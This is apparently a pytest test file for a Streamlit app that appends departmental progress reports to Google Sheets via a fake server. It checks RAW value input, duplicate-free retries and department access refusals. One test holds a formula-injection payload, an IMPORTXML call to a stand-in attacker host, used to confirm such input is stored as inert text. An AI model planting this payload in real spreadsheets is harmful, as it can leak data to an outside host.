"""The report form against the loopback Sheets server: one appended row with RAW values, a
lost reply retried without a duplicate, ``=`` stored as text, and a staff member refused for
another department (docs/report-form.md)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from streamlit.testing.v1 import AppTest

import odcore.config as config_module
import odcore.ui.signin as signin_ui
from odcore.config import AppConfig
from odcore.report_append import GoogleReports, submit_report
from odcore.report_form import ReportDraft, ReportRefused
from odcore.roles import Role, Viewer
from odcore.service import DataService, open_service
from odcore.settings import Settings
from odcore.sources.google_http import WRITE_SCOPES, ApiError, GoogleApi, load_service_account
from odcore.ui.loading import clear_cached_reads
from tests.gsheets.conftest import DEPT_KEY, EMAIL, FINANCE, IT, MAIN_KEY, report
from tests.gsheets.fake_sheets import FakeGoogle, FakeSheet
from tests.helpers import TASK, tab
from tests.ui.rendered import texts

APP = str(Path(__file__).resolve().parents[2] / "app.py")
SETTINGS = Settings()
CLERK_EMAIL, FIN_EMAIL, HEAD_EMAIL = ("it.clerk@rada.example.org", "fin.clerk@rada.example.org",
                                      "head@rada.example.org")
CLERK = Viewer(Role.STAFF, CLERK_EMAIL, IT, signed_in=True, sign_in=True, verified=True)
SECRETS = f"""
[odcore.access]
coordinators = ["{HEAD_EMAIL}"]

[odcore.access.staff]
"{CLERK_EMAIL}" = "{IT}"
"{FIN_EMAIL}" = "{FINANCE}"

[auth]
redirect_uri = "http://localhost:8501/oauth2callback"
cookie_secret = "a-cookie-secret-for-the-report-form-tests-0123"
client_id = "odcore-tests"
client_secret = "not-a-real-secret"
server_metadata_url = "http://127.0.0.1:9/.well-known/openid-configuration"
"""


@pytest.fixture
def council(google: FakeGoogle, monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeGoogle]:
    """A main spreadsheet (the plan, Finance's reports) and IT's own spreadsheet; the
    service account may edit both."""
    google.add_spreadsheet(MAIN_KEY, "Програма", dict([
        tab("plan", TASK, {**TASK, "code": "5.1", "executors_text": FINANCE}),
        tab("reports", report(FINANCE, task_code="5.1")),
        tab("departments", {"name": IT, "spreadsheet": DEPT_KEY}, {"name": FINANCE}),
    ]), writers=[EMAIL])
    google.add_spreadsheet(DEPT_KEY, "Звіти ІТ", dict([tab("reports", report(IT))]),
                           writers=[EMAIL])
    monkeypatch.setenv("ODCORE_SOURCE", f"gsheets:{MAIN_KEY}")
    clear_cached_reads()
    yield google
    clear_cached_reads()


@pytest.fixture
def service(council: FakeGoogle) -> DataService:
    return open_service(AppConfig(settings=SETTINGS, source_location=f"gsheets:{MAIN_KEY}",
                                  is_demo=False, public_only=False))


def writer(sleeps: list[float]) -> GoogleReports:
    api = GoogleApi(load_service_account({}), WRITE_SCOPES, sleep=sleeps.append)
    return GoogleReports(api, SETTINGS, sleep=sleeps.append)


def draft(**changes: Any) -> ReportDraft:
    values: dict[str, Any] = {"task_code": "4.3", "period": "2024-Q3", "status": "В роботі",
                              "progress": 50.0, "evidence_url": "https://rada.example.ua/n/7",
                              "comment": "Перевірено три набори."}
    values.update(changes)
    return ReportDraft(**values)


def reports_sheet(google: FakeGoogle, key: str = DEPT_KEY) -> FakeSheet:
    return google.spreadsheets[key].sheet("Звіти")


def data_rows(sheet: FakeSheet) -> list[dict[str, Any]]:
    header = sheet.cells[0]
    return [dict(zip(header, row, strict=False)) for row in sheet.cells[1:]
            if any(v != "" for v in row)]


def appends(google: FakeGoogle) -> list[dict[str, list[str]]]:
    return [parse_qs(urlsplit(path).query) for method, path in google.log
            if method == "POST" and ":append" in path]


def test_a_submitted_report_is_one_appended_row_with_raw_values(council, service):
    sleeps: list[float] = []
    appended = submit_report(service, CLERK, IT, draft(), google=lambda: writer(sleeps))

    rows = data_rows(reports_sheet(council))
    assert len(rows) == 2  # the row there before, and this one
    row = rows[-1]
    assert row["ID звіту"] == appended.report_id and appended.row == 3
    assert (row["Код завдання"], row["Період"], row["Статус"]) == ("4.3", "2024-Q3", "В роботі")
    assert row["Прогрес, %"] == 50.0 and row["Підрозділ"] == IT
    assert row["Email автора"] == CLERK_EMAIL and row["Час подання"].startswith("20")
    assert appends(council) == [{"valueInputOption": ["RAW"], "insertDataOption": ["INSERT_ROWS"],
                                 "includeValuesInResponse": ["false"]}]
    assert data_rows(reports_sheet(council, MAIN_KEY))[-1]["Підрозділ"] == FINANCE  # untouched
    # The service forgot its snapshot: the next read has the row.
    assert any(r.report_id == appended.report_id for r in service.snapshot().workbook.reports)


def test_a_submission_whose_reply_is_lost_is_read_back_and_not_written_twice(council, service):
    council.fail("append", lose_reply=True)
    appended = submit_report(service, CLERK, IT, draft(), google=lambda: writer([]))

    ids = [r["ID звіту"] for r in data_rows(reports_sheet(council))]
    assert ids.count(appended.report_id) == 1 and len(ids) == 2
    assert council.count("append") == 1  # found on read-back: never sent again
    assert appended.row == 3


def test_a_submission_lost_before_it_was_written_is_sent_again_once(council, service):
    council.fail("append", drop=True)
    sleeps: list[float] = []
    appended = submit_report(service, CLERK, IT, draft(), google=lambda: writer(sleeps))

    ids = [r["ID звіту"] for r in data_rows(reports_sheet(council))]
    assert ids.count(appended.report_id) == 1
    assert council.count("append") == 2 and len(sleeps) == 1


def test_when_even_the_read_back_fails_the_same_id_is_never_written_twice(council, service):
    service.snapshot()  # read before the outage
    council.fail("append", lose_reply=True)
    council.fail("values", key=DEPT_KEY, status=503, times=None, after=1)  # the read-back
    report_id = "R-20241001T080000Z-aaaaaaaaaaaa"
    with pytest.raises(ApiError, match=report_id):
        submit_report(service, CLERK, IT, draft(), report_id=report_id,
                      google=lambda: writer([]))
    council.faults.clear()

    again = submit_report(service, CLERK, IT, draft(), report_id=report_id,
                          google=lambda: writer([]))

    assert again.already_there
    assert [r["ID звіту"] for r in data_rows(reports_sheet(council))].count(report_id) == 1


def test_a_value_starting_with_equals_is_stored_as_text_never_a_formula(council, service):
    formula = '=IMPORTXML("https://evil.example/x", "//a")'
    submit_report(service, CLERK, IT, draft(comment=formula), google=lambda: writer([]))

    sheet = reports_sheet(council)
    assert data_rows(sheet)[-1]["Що зроблено"] == formula
    assert sheet.formulas == {}


def test_the_fake_server_would_turn_user_entered_text_into_a_formula(council):
    """The test above can fail: with USER_ENTERED the same text becomes a formula."""
    api = GoogleApi(load_service_account({}), WRITE_SCOPES)
    from odcore.sources.google_http import Deadline, Target

    api.request("POST", api.sheets_url(f"spreadsheets/{DEPT_KEY}/values/%27%D0%97%D0%B2%D1%96"
                                       "%D1%82%D0%B8%27%21A1:append"),
                Target(DEPT_KEY, DEPT_KEY, write=True), Deadline(10),
                params={"valueInputOption": "USER_ENTERED"},
                body={"values": [["4.3", "=1+1"]]})
    assert reports_sheet(council).formulas


def test_a_staff_member_is_refused_for_another_departments_task_and_nothing_is_sent(
        council, service):
    with pytest.raises(ReportRefused, match="лише його працівник або координатор"):
        submit_report(service, CLERK, FINANCE, draft(task_code="5.1"),
                      google=lambda: writer([]))
    with pytest.raises(ReportRefused, match="не належить підрозділу"):
        submit_report(service, CLERK, IT, draft(task_code="5.1"), google=lambda: writer([]))
    assert council.count("append") == 0


# --- The page, as a signed-in user (AppTest.user) ---------------------------------------------

@pytest.fixture
def signed_app(council: FakeGoogle, tmp_path: Path,
               monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    from streamlit.runtime.secrets import secrets_singleton

    (tmp_path / "secrets.toml").write_text(SECRETS, encoding="utf-8")
    monkeypatch.setattr(config_module, "_logged_warnings", set())
    saved = (secrets_singleton._secrets, secrets_singleton._programmatic_secrets,
             signin_ui._shared)

    def run(email: str, department: str) -> AppTest:
        at = AppTest.from_file(APP, default_timeout=60)
        at.user = {"is_logged_in": True, "email": email, "email_verified": True,
                   "name": "Тестова Особа", "sub": email}
        at.query_params["department"] = department
        at.switch_page("app_pages/department.py")
        at.run()
        assert not at.exception, at.exception
        return at

    yield run
    (secrets_singleton._secrets, secrets_singleton._programmatic_secrets,
     signin_ui._shared) = saved


def _current_quarter() -> str:
    from odcore.periods import Quarter

    return str(Quarter.of(SETTINGS.today()))


def _form_keys(at: AppTest) -> set[str]:
    return {w.key for w in at.selectbox if w.key and w.key.startswith("report_form.")}


def test_the_page_gives_staff_no_form_for_another_department(signed_app, council):
    at = signed_app(CLERK_EMAIL, FINANCE)

    assert _form_keys(at) == set()
    assert "Подати звіт за цей підрозділ можуть лише його працівники" in texts(at)
    assert council.count("append") == 0


def test_the_page_files_a_staff_members_report_and_shows_the_row_at_once(signed_app, council):
    at = signed_app(CLERK_EMAIL, IT)
    assert _form_keys(at) == {"report_form.task", "report_form.period", "report_form.status"}
    assert [o for o in at.selectbox(key="report_form.task").options] == ["4.3 — Контроль якості"]

    period = at.selectbox(key="report_form.period")
    assert str(period.value) == _current_quarter()  # the quarter under way, preselected
    at.selectbox(key="report_form.status").set_value("Виконано")
    at.number_input(key="report_form.progress").set_value(100.0)
    next(b for b in at.button if b.label == "Подати звіт").click()
    at.run()

    assert not at.exception and not at.error, [e.value for e in at.error]
    rows = data_rows(reports_sheet(council))
    assert len(rows) == 2 and rows[-1]["Email автора"] == CLERK_EMAIL
    assert appends(council)[0]["valueInputOption"] == ["RAW"]
    report_id = rows[-1]["ID звіту"]
    assert report_id.replace("-", "\\-") in texts(at) or report_id in texts(at)
    shown_ids = [frame.value for frame in at.dataframe
                 if "ID звіту" in frame.value.columns]
    assert shown_ids and report_id in list(shown_ids[0]["ID звіту"])
